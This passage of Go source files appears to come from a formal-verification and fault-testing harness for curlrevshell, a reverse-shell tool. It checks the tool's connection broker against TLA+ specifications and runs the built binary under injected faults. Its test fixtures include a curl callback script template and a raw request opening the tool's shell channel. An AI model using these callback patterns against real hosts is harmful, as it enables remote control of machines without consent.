	os.MkdirAll(dir, 0o755)
	defer os.RemoveAll(dir)
	tf := filepath.Join(dir, "cb.tmpl")
	write := func(state string) {
		switch state {
		case "absent":
			os.Remove(tf)
		case "v1":
			os.WriteFile(tf, []byte(fmt.Sprintf(tmplBody, "V1")), 0o644)
		case "v2":
			os.WriteFile(tf, []byte(fmt.Sprintf(tmplBody, "V2")), 0o644)
		case "unparsable":
			os.WriteFile(tf, []byte("#!/bin/sh\ncurl {{.ID"), 0o644)
		case "failing":
			os.WriteFile(tf, []byte("#!/bin/sh\n# some output first\ncurl https://{{.URL}}/i/{{.ID}} {{.Nope.Deeper}}\n"), 0o644)
		}
	}
	var first []any
	json.Unmarshal(g.State[g.Edges[walk[0]].From], &first)
	t0, _ := first[7].(string)
	o := srv.Opts{}
	if t0 != "unconfigured" {
		o.Tmplf = tf
		write(t0)
	}
	s, err := srv.Start(o)
	if err != nil {
		return nil
	}
	defer s.Stop()
	var fs []scFinding
	var hist []string
	for _, ei := range walk {
		var act struct {
			N string `json:"n"`
			T string `json:"t"`
		}
		json.Unmarshal(g.Edges[ei].Act, &act)
		var to []any
		json.Unmarshal(g.Edges[ei].ToState, &to)
		switch act.N {
		case "Edit":
			write(act.T)
			hist = append(hist, "Edit("+act.T+")")
		case "Request":
			hist = append(hist, "Request")
			resp := srv.Get(s.Addr, "/c", "tmpl.example:7")
			last, _ := to[9].(map[string]any)
			what := map[string]any{"history": append([]string{"start(" + t0 + ")"}, hist...), "status": resp.Status, "body": string(resp.Body)}
			if last["k"] == "script" {
				with, _ := last["with"].(string)
				if resp.Status != 200 {
					fs = append(fs, scFinding{"no-script-from-valid-template:" + with, what})
					continue
				}
				_, f2 := scCheckScript(resp.Body, resp, ids, idmu, what)
				fs = append(fs, f2...)
				if with == "v1" || with == "v2" {
					// the script is the rendering of the file as it is now: nothing before, nothing after
					sc, _ := parseScript(resp.Body)
					want := fmt.Sprintf(tmplBody, strings.ToUpper(with))
					want = strings.NewReplacer("{{.PubkeyFP}}", sc.fpIn, "{{.URL}}", sc.urlIn, "{{.ID}}", sc.idIn).Replace(want)
					if string(resp.Body) != want {
						what["rendering_expected"] = want
						fs = append(fs, scFinding{"script-is-not-the-rendering-of-the-template:" + with, what})
					}
				}
				marker := map[string]string{"v1": "# V1", "v2": "# V2"}[with]
				isDefault := !bytes.Contains(resp.Body, []byte("# V1")) && !bytes.Contains(resp.Body, []byte("# V2"))
				if (with == "default" && !isDefault) || (with != "default" && !bytes.Contains(resp.Body, []byte(marker))) {
					fs = append(fs, scFinding{"template-not-reread:" + with, what})
				}
			} else {
				if resp.Status < 500 || len(resp.Body) != 0 {
					with, _ := last["with"].(string)
					fs = append(fs, scFinding{"bad-template-yields-output:" + with, what})
				}
			}
		}
	}
	if os.Getenv("VERIF_DEBUG") != "" {
		fmt.Println("TWALK", t0, hist)
	}
	return fs
}
