package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/brk"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
)

// hookLine is one recorded observation point of Broker.connect.
type hookLine struct {
	B      int    `json:"b"`
	Att    uint64 `json:"att"`
	P      string `json:"p"`
	Dir    string `json:"dir"`
	Key    string `json:"key"`
	Seq    uint64 `json:"seq"`
	SKey   string `json:"skey"`
	In     bool   `json:"in"`
	Out    bool   `json:"out"`
	NoMore bool   `json:"nomore"`
	Locked bool   `json:"locked"`
	// HReq is the request the attempt belongs to when the driver knows it (its own calls); traces of
	// the repository's tests have only the key to go by
	HReq int `json:"-"`
	// P2 keeps the point's name when P is rewritten for a section that was not atomic
	P2 string `json:"-"`
}

// closing returns the index of the stamp that closes the critical section opened at st[i].
func closing(st []hookLine, i int) int {
	for j := i + 1; j < len(st); j++ {
		if st[j].Att == st[i].Att {
			st[j].P2 = st[j].P
			return j
		}
	}
	return -1
}

// ctlEvents turns the stamped hook lines of one broker into BrokerCtlTrace events.
func ctlEvents(lines []hookLine) (evs []brk.TraceEv, natt, nkeys int, err error) {
	evs, natt, nkeys, _, _, err = ctlEventsIDs(lines)
	return
}

// ctlEventsIDs is ctlEvents, also returning how real attempts and real IDs were named.
func ctlEventsIDs(lines []hookLine) (evs []brk.TraceEv, natt, nkeys int, ids map[uint64]int, keys map[string]string, err error) {
	var st []hookLine
	for _, l := range lines {
		if l.Locked {
			st = append(st, l)
		}
	}
	sort.Slice(st, func(i, j int) bool { return st[i].Seq < st[j].Seq })
	ids = map[uint64]int{}    // real attempt -> specification attempt
	ioIDs := map[string]int{} // /io key -> id of its input half
	keys = map[string]string{"": ""}
	next := 1
	shut := false
	mapKey := func(k string) string {
		if strings.HasPrefix(k, "BIDIR") {
			return k
		}
		if v, ok := keys[k]; ok {
			return v
		}
		keys[k] = fmt.Sprintf("K%d", len(keys))
		return keys[k]
	}
	post := func(l hookLine) brk.TraceEv {
		return brk.TraceEv{"key": mapKey(l.SKey), "bidir": strings.HasPrefix(l.SKey, "BIDIR"), "inh": l.In, "outh": l.Out, "nomore": l.NoMore}
	}
	type deferredEv struct {
		id int
		c  hookLine
	}
	deferred := map[int]deferredEv{}
	for i := 0; i < len(st); i++ {
		l := st[i]
		if l.NoMore && !shut && (l.P == "locked" || l.P == "relocked") {
			// Do's context was cancelled some time before this critical section
			shut = true
			evs = append(evs, brk.TraceEv{"e": "Shutdown"})
		}
		switch l.P {
		case "deferred-admit":
			d := deferred[i]
			e := post(d.c)
			e["e"], e["a"], e["accepted"], e["split"] = "Admit", d.id, d.c.P2 == "attached", true
			evs = append(evs, e)
		case "locked":
			id, known := ids[l.Att]
			dir := map[string]string{"input": "in", "output": "out"}[l.Dir]
			if !known {
				if strings.HasPrefix(l.Key, "BIDIR") {
					rk := l.Key
					if l.HReq > 0 {
						rk = fmt.Sprintf("request %d", l.HReq)
					}
					base, ok := ioIDs[rk]
					if !ok {
						base = next
						next += 2
						ioIDs[rk] = base
						evs = append(evs, brk.TraceEv{"e": "ArriveIO", "a": base, "b": base + 1})
					}
					id = base
					if dir == "out" {
						id = base + 1
					}
				} else {
					id = next
					next++
					evs = append(evs, brk.TraceEv{"e": "ArriveUni", "a": id, "d": dir, "k": mapKey(l.Key)})
				}
				ids[l.Att] = id
			}
			// the section's closing stamp.  Under b.mu it is the very next stamp; code that lets go
			// of the lock inside the section has other sections' stamps in between: the section is
			// then placed where it ends (its state is what it wrote last) and TLC decides whether
			// the execution is still one of atomic admissions.
			ci := closing(st, i)
			if ci < 0 {
				return nil, 0, 0, nil, nil, fmt.Errorf("attempt %d: critical section without its closing stamp", l.Att)
			}
			c := st[ci]
			if ci != i+1 {
				deferred[ci] = deferredEv{id: id, c: c}
				st[ci].P = "deferred-admit"
				continue
			}
			i++
			e := post(c)
			e["e"], e["a"], e["accepted"] = "Admit", id, c.P == "attached"
			evs = append(evs, e)
		case "relocked":
			id := ids[l.Att]
			if i+1 >= len(st) || st[i+1].Att != l.Att || st[i+1].P != "leave" {
				return nil, 0, 0, nil, nil, fmt.Errorf("attempt %d: release section without its closing stamp", l.Att)
			}
			c := st[i+1]
			i++
			evs = append(evs, brk.TraceEv{"e": "ProxyEnd", "a": id})
			e := post(c)
			e["e"], e["a"] = "Release", id
			evs = append(evs, e)
		default:
			return nil, 0, 0, nil, nil, fmt.Errorf("unexpected stamped point %q", l.P)
		}
	}
	return evs, next - 1, len(keys) - 1, ids, keys, nil
}

func ctlTraceCfg(natt, nkeys int) string {
	atts := make([]string, natt)
	for i := range atts {
		atts[i] = fmt.Sprint(i + 1)
	}
	ks := []string{`""`}
	for i := 1; i <= nkeys; i++ {
		ks = append(ks, fmt.Sprintf(`"K%d"`, i))
	}
	return fmt.Sprintf(`SPECIFICATION TSpec
CONSTANTS
  Att = {%s}
  Keys = {%s}
  MaxReq = %d
  MaxHangups = 0
  PerReqKey = TRUE
  EmitEdges = FALSE
INVARIANTS NotAllConsumed OneShell Consistent IdleIsInitial ExactlyOneGone ReadyAtMostOncePerGen SameRequest AtMostOneIO NoMixIOUni
CHECK_DEADLOCK FALSE
`, strings.Join(atts, ","), strings.Join(ks, ","), natt)
}

func ctlAttribute(e brk.TraceEv) (string, string) {
	switch e["e"] {
	case "Admit":
		return "C01", "trace:admission"
	case "Release", "ProxyEnd":
		return "C04", "trace:release"
	}
	return "", "harness:" + fmt.Sprint(e["e"])
}

// validateCtlTraces validates broker traces (one per broker) and reports the refused ones.
func validateCtlTraces(r *ev.Run, prop, source string, traces [][]brk.TraceEv, natt, nkeys int, labels []string) {
	if len(traces) == 0 {
		return
	}
	cfgText := ctlTraceCfg(natt, nkeys)
	ok, tres, err := traceAccepted("BrokerCtlTrace", cfgText, traces)
	if err != nil {
		r.Inconclusive("%s: control trace validation: %v\n%s", source, err, tail(tres))
		return
	}
	r.Add("trace_validation_states", tres.Distinct)
	r.Add("traces_validated_against_impl", len(traces))
	n := 0
	for _, t := range traces {
		n += len(t)
	}
	r.Add("trace_events", n)
	if ok {
		return
	}
	idx := make([]int, len(traces))
	for i := range idx {
		idx[i] = i
	}
	var rej []int
	if err := findRejected("BrokerCtlTrace", cfgText, idx, traces, 6, &rej); err != nil {
		r.Inconclusive("%s: bisecting: %v", source, err)
		return
	}
	for _, k := range rej {
		at, inv, err := firstRefused("BrokerCtlTrace", cfgText, traces[k])
		if err != nil || at < 0 {
			r.Inconclusive("%s: locating refused event: %v", source, err)
			continue
		}
		p, aspect := ctlAttribute(traces[k][at])
		if prop == "C06" && crossPairing(traces[k], at) {
			p, aspect = "C06", "trace:cross-pairing"
		}
		if inv != "" {
			p, aspect = "C01", "trace:"+inv
			if inv == "SameRequest" || inv == "AtMostOneIO" {
				p = "C06"
			}
			if inv == "ExactlyOneGone" || inv == "ReadyAtMostOncePerGen" {
				p = "C04"
			}
		}
		d := map[string]any{"kind": "BrokerCtl-trace", "source": source, "trace": traces[k], "refused_event_index": at, "refused_event": traces[k][at], "violated_invariant": inv}
		if k < len(labels) {
			d["which"] = labels[k]
		}
		switch {
		case p == "":
			r.Inconclusive("%s: trace rejected at a harness event %v", source, traces[k][at])
		case p == prop:
			r.Violation(aspect+":"+source, d)
		default:
			fmt.Printf("note: %s trace refused at %v, attributed to %s (%s)\n", source, traces[k][at], p, aspect)
		}
	}
}

// repoTestsLeg runs the repository's own broker and server tests with the
// hooks recording, and validates what they did against BrokerCtl.
func repoTestsLeg(r *ev.Run, prop string) {
	dir, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "repotests-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(dir)
	cmd := exec.Command("go", "test", "-tags", "verif", "-count=1", "./internal/iobroker", "./internal/hsrv")
	cmd.Dir = ev.Repo()
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "VERIF_TRACE="+dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		r.Inconclusive("the repository's tests do not pass with the hooks on: %v\n%s", err, out)
		return
	}
	files, _ := filepath.Glob(filepath.Join(dir, "trace-*.ndjson"))
	var traces [][]brk.TraceEv
	var labels []string
	natt, nkeys := 2, 1
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		per := map[int][]hookLine{}
		sc := bufio.NewScanner(bytes.NewReader(b))
		sc.Buffer(make([]byte, 1<<20), 1<<22)
		for sc.Scan() {
			var l hookLine
			if json.Unmarshal(sc.Bytes(), &l) == nil {
				per[l.B] = append(per[l.B], l)
			}
		}
		var bids []int
		for id := range per {
			bids = append(bids, id)
		}
		sort.Ints(bids)
		for _, id := range bids {
			evs, na, nk, err := ctlEvents(per[id])
			if err != nil {
				r.Inconclusive("recorded trace of broker %d in %s: %v", id, filepath.Base(f), err)
				continue
			}
			if len(evs) == 0 {
				continue
			}
			traces = append(traces, evs)
			labels = append(labels, fmt.Sprintf("%s broker %d (first key %q)", filepath.Base(f), id, per[id][0].Key))
			if na > natt {
				natt = na
			}
			if nk > nkeys {
				nkeys = nk
			}
		}
	}
	if len(traces) == 0 {
		r.Inconclusive("the repository's tests recorded no broker activity (hooks not compiled in?)")
		return
	}
	r.Set("repository_test_traces", len(traces))
	validateCtlTraces(r, prop, "repository-tests", traces, natt, nkeys, labels)
}

// freeRunLeg hammers real brokers with concurrent, ungated attempts and
// validates the recorded executions.
func freeRunLeg(r *ev.Run, prop string, n int) {
	var traces [][]brk.TraceEv
	var mu sync.Mutex
	var wg sync.WaitGroup
	natt, nkeys := 2, 2
	sem := make(chan struct{}, 8)
	for i := 0; i < n; i++ {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int) {
			defer wg.Done()
			defer func() { <-sem }()
			rng := rand.New(rand.NewSource(r.Seed*65537 + int64(i)))
			w, err := brk.NewWorld(4096, false)
			if err != nil {
				return
			}
			w.Record = true
			w.SameHost = i%2 == 1
			stopDrain := make(chan struct{})
			go func() {
				for {
					select {
					case <-w.Och:
					case <-stopDrain:
						return
					}
				}
			}()
			keys := []string{"", "alpha", "alpha", "alpha", "alph", "ALPHA"}
			var halves []*brk.Half
			nreq := 3 + rng.Intn(5)
			id := 0
			var hw sync.WaitGroup
			for q := 0; q < nreq; q++ {
				switch rng.Intn(3) {
				case 0:
					hi, ho := w.StartIO(id+1, id+2, q+1, "")
					id += 2
					halves = append(halves, hi, ho)
				default:
					id++
					dir := []string{"in", "out"}[rng.Intn(2)]
					halves = append(halves, w.StartUni(id, dir, keys[rng.Intn(len(keys))], q+1, ""))
				}
				if rng.Intn(3) == 0 {
					time.Sleep(time.Duration(rng.Intn(300)) * time.Microsecond)
				}
				if rng.Intn(3) == 0 && len(halves) > 0 {
					h := halves[rng.Intn(len(halves))]
					hw.Add(1)
					go func() {
						defer hw.Done()
						time.Sleep(time.Duration(rng.Intn(200)) * time.Microsecond)
						h.Cancel()
						h.R.Close()
					}()
				}
			}
			hw.Wait()
			time.Sleep(time.Duration(rng.Intn(500)) * time.Microsecond)
			w.Cleanup()
			close(stopDrain)
			var lines []hookLine
			for _, e := range w.Trace {
				lines = append(lines, hookLine{B: 1, Att: e.St.Att, P: e.Point, Dir: map[string]string{"in": "input", "out": "output"}[e.Dir],
					Key: e.Key, Seq: e.Seq, HReq: e.Req, SKey: e.St.Key, In: e.St.In, Out: e.St.Out, NoMore: e.St.NoMore, Locked: e.St.Locked})
			}
			evs, na, nk, err := ctlEvents(lines)
			if err != nil {
				r.Inconclusive("free-running trace: %v", err)
				return
			}
			mu.Lock()
			traces = append(traces, evs)
			if na > natt {
				natt = na
			}
			if nk > nkeys {
				nkeys = nk
			}
			mu.Unlock()
		}(i)
	}
	wg.Wait()
	r.Set("free_running_traces", len(traces))
	validateCtlTraces(r, prop, "free-running", traces, natt, nkeys, nil)
}

// apalacheLeg has Apalache discharge the inductive invariant of BrokerInd.tla (OneShell and
// SameRequest for histories of any length).  A stall is noted, not a verdict.
func apalacheLeg(r *ev.Run) {
	dir, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "apalache-")
	if err != nil {
		return
	}
	defer os.RemoveAll(dir)
	t0 := time.Now()
	cmd := exec.Command(filepath.Join(ev.Root(), "spec", "BrokerInd_apalache.sh"), dir)
	out, err := cmd.CombinedOutput()
	n := strings.Count(string(out), "The outcome is: NoError")
	switch {
	case err == nil && n == 2:
		r.Set("apalache_inductive_invariant", fmt.Sprintf("BrokerInd.tla: Init => IndInv and IndInv /\\ Next => IndInv' discharged by Apalache for 4 attempts in flight, 2 IDs, 4 requests (%.0f s)", time.Since(t0).Seconds()))
		r.Append("tlc_invariants_checked", "Apalache: BrokerInd IndInv (TypeOK Consistent KeysOfRequests OneShell SameRequest) inductive")
	case strings.Contains(string(out), "outcome is: Error"):
		r.Inconclusive("Apalache refutes the inductive invariant of BrokerInd.tla (a specification problem, not an implementation verdict):\n%s", out)
	default:
		r.Set("apalache_inductive_invariant", "not discharged in this run (tool stalled or unavailable): "+strings.TrimSpace(string(out)))
	}
}

// crossPairing says whether the refused event at is an admission the code granted to a stream
// whose peer direction is held by a stream of another request while one of the two is a half of
// /io: the combination C06 excludes.
func crossPairing(t []brk.TraceEv, at int) bool {
	num := func(v any) int {
		switch x := v.(type) {
		case int:
			return x
		case float64:
			return int(x)
		}
		return 0
	}
	dirOf, reqOf, isIO := map[int]string{}, map[int]int{}, map[int]bool{}
	holder := map[string]int{}
	for i, e := range t[:at+1] {
		switch e["e"] {
		case "ArriveUni":
			dirOf[num(e["a"])], reqOf[num(e["a"])] = fmt.Sprint(e["d"]), -i-1
		case "ArriveIO":
			a, b := num(e["a"]), num(e["b"])
			dirOf[a], dirOf[b], reqOf[a], reqOf[b], isIO[a], isIO[b] = "in", "out", i+1, i+1, true, true
		case "Release":
			delete(holder, dirOf[num(e["a"])])
		case "Admit":
			a := num(e["a"])
			acc, _ := e["accepted"].(bool)
			if i == at {
				other := "in"
				if dirOf[a] == "in" {
					other = "out"
				}
				h, ok := holder[other]
				return acc && ok && (isIO[a] || isIO[h]) && reqOf[a] != reqOf[h]
			}
			if acc {
				holder[dirOf[a]] = a
			}
		}
	}
	return false
}
