package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/ptyx"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C20", "fault_enumeration", mainCampaign)
}

type mainCase struct {
	Faults  []string `json:"faults"`
	Flag    string   `json:"flag"`
	TTY     bool     `json:"tty"`
	How     string   `json:"how"`
	Sst     string   `json:"sst"`
	Status  string   `json:"status"`
	Cause   string   `json:"cause"`
	Allowed struct {
		Info  bool     `json:"info"`
		Fails []string `json:"fails"`
		Runs  bool     `json:"runs"`
	} `json:"allowed"`
}

// buildBinary builds the real curlrevshell from /repo's working tree.
func buildBinary(scratch string) (string, error) {
	out := filepath.Join(scratch, "curlrevshell")
	return out, goBuild(ev.Repo(), ".", out, "")
}

var (
	reHelp    = regexp.MustCompile(`To get a shell`)
	rePanic   = regexp.MustCompile(`panic:|goroutine \d+ \[|SIGSEGV|runtime error|fatal error:`)
	reGoodbye = regexp.MustCompile(`Goodbye\.`)
)

type mainObs struct {
	status   int
	text     string
	exited   bool
	served   bool
	restored bool
	hadTTY   bool
}

type mainSetup struct {
	args    []string
	operand map[string][]string // fault -> strings one of which the message should contain
	cleanup func()
	skip    string
}

func mainArgs(c mainCase, dir string) mainSetup {
	s := mainSetup{operand: map[string][]string{}, cleanup: func() {}}
	has := map[string]bool{}
	for _, f := range c.Faults {
		has[f] = true
	}
	naddr, ncache := 0, 0
	for _, f := range c.Faults {
		if strings.HasPrefix(f, "addr-") {
			naddr++
		}
		if strings.HasPrefix(f, "cache-") {
			ncache++
		}
	}
	if naddr > 1 || ncache > 1 {
		s.skip = "two faults of the same flag cannot be present at once"
		return s
	}
	addr := "127.0.0.1:0"
	switch {
	case has["addr-syntax"]:
		addr = "not-an-address:12:xx"
		s.operand["addr-syntax"] = []string{addr, "listen"}
	case has["addr-inuse"]:
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err == nil {
			addr = l.Addr().String()
			s.cleanup = func() { l.Close() }
		}
		s.operand["addr-inuse"] = []string{addr, "in use", "listen"}
	case has["addr-unassignable"]:
		addr = "192.0.2.77:4444"
		s.operand["addr-unassignable"] = []string{addr, "assign", "listen"}
	}
	cache := filepath.Join(dir, "cache", "sub", "cert.txtar")
	switch {
	case has["cache-damaged"]:
		os.MkdirAll(filepath.Dir(cache), 0o700)
		os.WriteFile(cache, []byte("Generated never\n-- cert --\n-----BEGIN CERTIFICATE-----\nnot base64 at all\n-----END CERTIFICATE-----\n-- key --\nnope\n"), 0o600)
		s.operand["cache-damaged"] = []string{cache, "certificate", "cert"}
	case has["cache-unwritable"]:
		blocker := filepath.Join(dir, "afile")
		os.WriteFile(blocker, []byte("x"), 0o600)
		cache = filepath.Join(blocker, "sub", "cert.txtar")
		s.operand["cache-unwritable"] = []string{cache, blocker, "certificate", "cert"}
	case has["cache-nocreate"]:
		// a directory that exists and in which even root cannot create a file
		cache = fmt.Sprintf("/proc/c20-cert-%d.txtar", os.Getpid())
		s.operand["cache-nocreate"] = []string{cache, "certificate", "cert"}
	}
	s.args = []string{"-listen-address", addr, "-tls-certificate-cache", cache}
	if has["badlog"] {
		lp := filepath.Join(dir, "no", "such", "dir", "log.json")
		s.args = append(s.args, "-log", lp)
		s.operand["badlog"] = []string{lp, "logfile", "log"}
	} else {
		s.args = append(s.args, "-log", filepath.Join(dir, "log.json"))
	}
	if has["ctrli-missing"] {
		mp := filepath.Join(dir, "missing-ctrl-i-source")
		s.args = append(s.args, "-ctrl-i", mp)
		s.operand["ctrli-missing"] = []string{mp, "Ctrl+I", "ctrl-i"}
	} else if c.Flag == "-print-ctrl-i" {
		fd := filepath.Join(dir, "funcs")
		os.Mkdir(fd, 0o755)
		os.WriteFile(filepath.Join(fd, "a.sh"), []byte("# TABDOC: hello says hello\nhello() { echo PAYLOADMARK; }\n"), 0o644)
		s.args = append(s.args, "-ctrl-i", fd)
	}
	if has["icanhazip"] {
		s.args = append(s.args, "-icanhazip")
		s.operand["icanhazip"] = []string{"icanhazip"}
	}
	s.operand["notty"] = []string{"TTY", "tty", "terminal"}
	if c.Flag != "none" {
		s.args = append(s.args, c.Flag)
	}
	return s
}

func mainRun(bin, scratch string, idx int, c mainCase) (mainObs, mainSetup, error) {
	dir, err := os.MkdirTemp(scratch, "m")
	if err != nil {
		return mainObs{}, mainSetup{}, err
	}
	defer os.RemoveAll(dir)
	su := mainArgs(c, dir)
	defer su.cleanup()
	if su.skip != "" {
		return mainObs{}, su, nil
	}
	prog, pargs := bin, su.args
	if c.Sst == "flood-1cpu" {
		if ts, err := exec.LookPath("taskset"); err == nil {
			prog, pargs = ts, append([]string{"-c", "0", bin}, su.args...)
		}
	}
	p, err := ptyx.Start(prog, pargs, ptyx.Opts{NoTTY: !c.TTY, Dir: dir, Env: []string{"HOME=" + dir, "XDG_CACHE_HOME=" + filepath.Join(dir, "xdg")}})
	if err != nil {
		return mainObs{}, su, err
	}
	defer p.Close()
	o := mainObs{hadTTY: c.TTY}
	// wait for either an exit or the callback help
	dl := time.Now().Add(20 * time.Second)
	for {
		if ex, _ := p.Exited(); ex {
			break
		}
		if c.TTY && reHelp.Match(p.Output()) {
			o.served = true
			break
		}
		if time.Now().After(dl) {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	if o.served {
		time.Sleep(30 * time.Millisecond)
		// bring the healthy run into the state in which the operator ends it
		var conn net.Conn
		if m := reListen.FindSubmatch(p.Output()); m != nil && (c.Sst == "half" || c.Sst == "shell" || c.Sst == "muted" || c.Sst == "flood" || c.Sst == "flood-1cpu") {
			if conn, err = dialTLS(string(m[1])); err == nil {
				defer conn.Close()
				if c.Sst == "half" {
					fmt.Fprintf(conn, "GET /i/c20 HTTP/1.1\r\nHost: x\r\n\r\n")
					p.WaitFor(regexp.MustCompile(`Input connected`), 0, 5*time.Second)
				} else {
					fmt.Fprintf(conn, "POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
					p.WaitFor(regexp.MustCompile(`Shell is ready`), 0, 5*time.Second)
				}
			}
		}
		switch c.Sst {
		case "muted":
			p.Type([]byte{0x0f})
			p.WaitFor(regexp.MustCompile(`Muting until`), 0, 3*time.Second)
		case "typed":
			p.Type([]byte("half a line"))
			time.Sleep(30 * time.Millisecond)
		case "flood", "flood-1cpu":
			if conn != nil {
				stop := make(chan struct{})
				defer close(stop)
				go func(c net.Conn) {
					chunk := strings.Repeat("flooding the terminal with shell output\n", 20)
					for {
						select {
						case <-stop:
							return
						default:
						}
						c.SetWriteDeadline(time.Now().Add(time.Second))
						if _, err := fmt.Fprintf(c, "%x\r\n%s\r\n", len(chunk), chunk); err != nil {
							return
						}
					}
				}(conn)
				time.Sleep(60 * time.Millisecond)
			}
		}
		if c.How == "ctrl-c" {
			p.Type([]byte{3})
		} else {
			if c.Sst == "typed" {
				p.Type([]byte{0x15}) // Ctrl+D ends the program on an empty line only: kill the line first
			}
			p.Type([]byte{4})
		}
	}
	ex, st := p.WaitExit(15 * time.Second)
	o.exited, o.status = ex, st
	if c.TTY {
		o.text = string(p.Output())
		if t1, err := p.Termios(); err == nil && p.Termios0 != nil {
			o.restored = *t1 == *p.Termios0
		}
	} else {
		o.text = string(p.Stderr()) + string(p.Stdout())
		o.restored = true
	}
	if !ex {
		p.Kill()
	}
	return o, su, nil
}

// quitLeg model-checks the exit of a healthy run on the composition of the output path with the
// operator's terminal (Curlrevshell.tla): once the operator has ended the program the broker must
// still finish, however full the operator channel is.  The design as found is kept and refuted.
func quitLeg(r *ev.Run) {
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Curlrevshell", Config: "Curlrevshell_quit", Workers: 8, Timeout: 10 * time.Minute})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC Curlrevshell_quit: err=%v violated=%q\n%s", err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Append("tlc_invariants_checked", "Curlrevshell_quit (fairness): EndsAfterQuit; BoundedAfterCancel NoticeShownAtCompletion")
	res2, err := tlcrun.Run(tlcrun.Opts{Module: "Curlrevshell", Config: "Curlrevshell_quit_asfound", Workers: 8, Timeout: 10 * time.Minute})
	if res2 != nil && (strings.Contains(res2.Violated, "EndsAfterQuit") || strings.Contains(strings.Join(res2.Tail, "\n"), "EndsAfterQuit")) {
		r.Set("tlc_refutes_design_without_drain", "Curlrevshell_quit_asfound.cfg (nobody receives from the operator channel after the shell has returned): EndsAfterQuit violated")
	} else {
		r.Inconclusive("Curlrevshell_quit_asfound.cfg: TLC did not refute EndsAfterQuit for the design as found (err=%v violated=%q)", err, resViolated(res2))
	}
	// the first version of the repair of the lost closing notice: the output goroutine shows whatever
	// is or becomes queued, so a flooding shell keeps it from returning
	res3, _ := tlcrun.Run(tlcrun.Opts{Module: "Curlrevshell", Config: "Curlrevshell_drainall", Workers: 8, Timeout: 10 * time.Minute})
	if res3 != nil && res3.Violated == "BoundedAfterCancel" {
		r.Set("tlc_refutes_showing_everything_after_cancellation", "Curlrevshell_drainall.cfg: BoundedAfterCancel violated")
	} else {
		r.Inconclusive("Curlrevshell_drainall.cfg: TLC did not refute BoundedAfterCancel (violated=%q)", resViolated(res3))
	}
}

func mainCampaign(r *ev.Run) {
	quitLeg(r)
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "main-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	bin, err := buildBinary(scratch)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	var mu sync.Mutex
	cases := map[string]mainCase{}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Main", Config: "Main_q", Workers: 4, Timeout: 10 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag != "CASE" {
				return
			}
			var c mainCase
			if json.Unmarshal([]byte(p), &c) == nil {
				mu.Lock()
				cases[p] = c
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC Main_q: err=%v violated=%q\n%s", err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", res.Generated)
	r.Append("tlc_invariants_checked", "Main: NeverCrashes CleanFailure FailsWhenItMust TermiosRestored RawOnlyWithTTY; liveness Terminates")
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	if false && r.Tier == "quick" { // all configurations take a few seconds: no need to thin them out
		// every single fault and flag with both TTY settings; pairs for one exit path only
		var kk []string
		for _, k := range keys {
			c := cases[k]
			if len(c.Faults) <= 1 || c.How == "ctrl-d" {
				kk = append(kk, k)
			}
		}
		keys = kk
	}
	type result struct {
		c  mainCase
		o  mainObs
		su mainSetup
	}
	var results []result
	var rmu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for i, k := range keys {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int, c mainCase) {
			defer wg.Done()
			defer func() { <-sem }()
			o, su, err := mainRun(bin, scratch, i, c)
			if err != nil {
				r.Inconclusive("running the binary: %v", err)
				return
			}
			rmu.Lock()
			results = append(results, result{c, o, su})
			rmu.Unlock()
		}(i, cases[k])
	}
	wg.Wait()
	nrun, nskip, agree := 0, 0, 0
	distinct := map[string]bool{}
	for _, x := range results {
		c, o := x.c, x.o
		if x.su.skip != "" {
			nskip++
			continue
		}
		nrun++
		d := map[string]any{"faults": c.Faults, "flag": c.Flag, "tty": c.TTY, "exit_by": c.How, "ended_while": c.Sst, "args": x.su.args, "exit_status": o.status,
			"output": o.text, "expected_by_code_order": c.Status + "/" + c.Cause}
		where := c.Flag + "/" + map[bool]string{true: "tty", false: "no-tty"}[c.TTY]
		if c.Sst != "" && c.Sst != "idle" {
			where += "/" + c.How + "-while-" + c.Sst
		}
		if len(c.Faults) > 0 || !c.TTY {
			distinct[strings.Join(c.Faults, "+")+"/"+where] = true
		}
		switch {
		case !o.exited:
			r.Violation("does-not-exit:"+strings.Join(c.Faults, "+")+"/"+where, d)
			continue
		case rePanic.MatchString(o.text) || o.status >= 128:
			key := "crash:" + strings.Join(c.Faults, "+") + "/" + where
			if !c.TTY && strings.Contains(o.text, "WrapInColor") {
